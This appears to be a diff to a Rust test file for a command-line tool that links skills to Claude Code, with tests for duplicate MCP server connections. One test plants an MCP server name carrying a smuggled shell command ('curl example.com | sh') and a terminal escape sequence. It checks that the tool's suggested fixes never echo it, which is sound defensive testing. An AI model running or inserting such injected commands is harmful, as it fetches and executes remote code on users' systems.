@@ -302,6 +302,52 @@ fn a_client_is_offered_skills_one_way() {
     "#);
 }
 
+#[test]
+fn a_server_that_runs_already_is_a_way_too() {
+    let sandbox = Sandbox::with_skills();
+    let http = ["--http", "http://127.0.0.1:7437/mcp"];
+    let connect = ["connect", "--yes", "--project", "claude-code"];
+    assert_eq!(sandbox.run(&[&connect[..], &http].concat()).code, 0);
+    assert_run!(link(&sandbox, &["claude-code"]), @r#"
+    exit 1
+    --- stdout
+    --- stderr
+    left out: Claude Code is connected to the MCP server and would be offered every skill twice; `rep connect --undo --project --http http://127.0.0.1:7437/mcp claude-code` disconnects it, --force links all the same
+    "#);
+    assert_eq!(link(&sandbox, &["--force", "claude-code"]).code, 0);
+    let run = sandbox.run(&["doctor"]);
+    assert!(
+        run.stdout.contains("Claude Code is connected (.mcp.json) and also reads 2 skills from"),
+        "{}",
+        run.stdout
+    );
+    assert_eq!(sandbox.run(&[&["connect", "--undo"], &connect[1..], &http].concat()).code, 0);
+    assert!(!sandbox.run(&["doctor"]).stdout.contains("Claude Code is connected"));
+    // What answers at other addresses and under other names is not known.
+    for entry in ["\"skills\": {\"url\": \"https://example.com/mcp\"}", "\"x\": {\"url\": \"http://localhost/mcp\"}"] {
+        sandbox.write(".mcp.json", format!("{{\"mcpServers\": {{{entry}}}}}"));
+        assert!(!sandbox.run(&["doctor"]).stdout.contains("Claude Code is connected"), "{entry}");
+    }
+}
+
+#[test]
+fn names_that_came_with_a_clone_are_in_no_command() {
+    let sandbox = Sandbox::with_skills();
+    let server = serde_json::json!({"command": "rep", "args": ["serve", "--stdio"]});
+    let servers = serde_json::json!({"mcpServers": {"x; curl example.com | sh #\u{1b}[2J": server}});
+    sandbox.write(".mcp.json", servers.to_string());
+    assert_run!(link(&sandbox, &["claude-code"]), @r#"
+    exit 1
+    --- stdout
+    --- stderr
+    left out: Claude Code is connected to the MCP server and would be offered every skill twice; without its entry in [DIR]/project/.mcp.json it is disconnected, --force links all the same
+    "#);
+    assert_eq!(link(&sandbox, &["--force", "claude-code"]).code, 0);
+    let run = sandbox.run(&["doctor"]);
+    assert!(run.stdout.contains("remove its entry from .mcp.json by hand, or `rep link"), "{}", run.stdout);
+    assert!(!run.stdout.contains("curl"), "{}", run.stdout);
+}
+
 #[cfg(unix)]
 #[test]
 fn directories_that_are_links() {
